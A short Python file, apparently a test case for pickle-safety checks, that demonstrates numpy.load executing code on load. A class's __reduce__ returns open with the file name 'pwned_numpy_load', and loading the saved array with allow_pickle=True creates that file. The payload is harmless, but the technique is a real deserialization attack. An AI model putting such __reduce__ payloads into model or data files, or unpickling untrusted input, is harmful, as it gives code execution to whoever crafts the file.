"""file: numpy.load unpickles."""

import io

import numpy as np


class Model:
    def __reduce__(self):
        return open, ("pwned_numpy_load", "w")


buffer = io.BytesIO()
np.save(buffer, np.array([Model()], dtype=object), allow_pickle=True)
x = np.load(io.BytesIO(buffer.getvalue()), allow_pickle=True)
